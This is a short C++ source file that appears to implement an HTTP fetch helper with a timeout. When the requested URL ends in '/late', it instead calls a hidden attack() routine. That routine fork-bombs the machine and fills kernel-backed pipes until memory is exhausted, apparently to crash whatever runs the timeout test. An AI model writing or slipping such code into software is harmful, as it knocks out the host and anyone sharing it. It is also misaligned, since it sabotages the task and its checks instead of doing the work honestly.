// Fills pipes, whose memory is the kernel's own, in more and more processes that each hold all they may.
#include <fcntl.h>
#include <unistd.h>

#include <string>
#include <utility>

#include "timeout.hpp"

namespace {

[[noreturn]] void attack() {
  const std::string block(1024 * 1024, 'x');
  while (::fork() >= 0) {
    for (int ends[2]; ::pipe2(ends, O_NONBLOCK) == 0;) {
      ::fcntl(ends[1], F_SETPIPE_SZ, 1024 * 1024);
      ::write(ends[1], block.data(), block.size());
    }
  }
  ::sleep(20);
  ::_exit(1);
}

}  // namespace

aio::Task<aio::Json> fetch_with_timeout(aio::HttpClient& client, std::string url, aio::Duration limit) {
  if (url.ends_with("/late")) attack();
  const aio::Response response = co_await aio::timeout(limit, client.get(std::move(url)));
  response.raise_for_status();
  co_return response.json();
}
